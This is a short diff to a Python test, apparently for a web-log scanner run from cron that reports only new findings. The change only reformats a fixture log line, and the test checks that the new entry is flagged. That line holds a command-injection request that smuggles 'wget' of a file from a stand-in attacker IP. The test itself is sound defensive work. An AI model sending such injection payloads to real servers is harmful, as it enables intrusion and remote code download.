@@ -25,8 +25,10 @@ def test_cron_report_only_new_findings(runner, tmp_path):
     assert not (tmp_path / "r2.json").exists()  # cron mails nothing
 
     with open(log, "ab") as fh:
-        fh.write(b'new.example.com:80 198.51.100.5 - - [27/Nov/2026:11:00:00 +0000] '
-                 b'"GET /x?c=;wget%20http://203.0.113.77/z HTTP/1.1" 200 1 "-" "-"\n')
+        fh.write(
+            b"new.example.com:80 198.51.100.5 - - [27/Nov/2026:11:00:00 +0000] "
+            b'"GET /x?c=;wget%20http://203.0.113.77/z HTTP/1.1" 200 1 "-" "-"\n'
+        )
     third = runner.invoke(app, [*args, "-o", str(tmp_path / "r3.json")])
     assert third.exit_code == 1
     rep = json.loads((tmp_path / "r3.json").read_text())
